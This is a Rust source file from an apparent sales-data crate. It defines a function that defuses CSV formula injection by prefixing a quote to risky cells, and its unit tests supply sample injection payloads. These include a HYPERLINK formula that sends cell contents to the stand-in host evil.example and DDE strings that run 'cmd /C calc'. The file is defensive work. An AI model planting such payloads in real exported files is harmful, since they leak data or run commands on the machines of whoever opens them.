//! Text for a CSV cell that a spreadsheet shows as text and never runs as a formula.

use std::borrow::Cow;

/// `text` as a CSV cell a spreadsheet shows and never runs: text that starts with `=`, `+`,
/// `-`, `@` (or their full-width forms), a tab or a carriage return gets a leading `'`, as
/// OWASP's advice on CSV injection has it; anything else, and a plain number (`-12`,
/// `+44.5`, `1,200`), is left as it is.
///
/// Names, occupations and replies come from prospects: a reply `=HYPERLINK("http://…")`
/// written as it is becomes a live link (or worse) when the file is opened in Excel,
/// LibreOffice or Google Sheets. Write cells as they are only for a program that reads
/// the file, never for a spreadsheet.
///
/// ```
/// use salesflow_ext::defuse_formula;
///
/// assert_eq!(defuse_formula("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
/// assert_eq!(defuse_formula("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(defuse_formula("-12.5"), "-12.5"); // a number stays a number
/// assert_eq!(defuse_formula("Jane Doe"), "Jane Doe");
/// ```
pub fn defuse_formula(text: &str) -> Cow<'_, str> {
    let starts_a_formula = text.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ]);
    if !starts_a_formula || is_plain_number(text) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{text}"))
}

/// `-12`, `+44.5`, `1,200.75`: a sign, digits with thousands commas, a decimal part.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    whole.starts_with(|c: char| c.is_ascii_digit())
        && whole.chars().all(|c| c.is_ascii_digit() || c == ',')
        && !fraction.is_empty()
        && fraction.chars().all(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::defuse_formula;

    #[test]
    fn every_formula_start_is_defused_and_numbers_are_kept() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
            "-",
            "+",
            "-1+1",
        ] {
            assert_eq!(
                defuse_formula(payload),
                format!("'{payload}"),
                "{payload:?}"
            );
        }
        for kept in ["-12", "+44.5", "1,200.75", "-0.5", "Ann", "", " =1", "a=b"] {
            assert_eq!(defuse_formula(kept), kept, "{kept:?}");
        }
    }
}
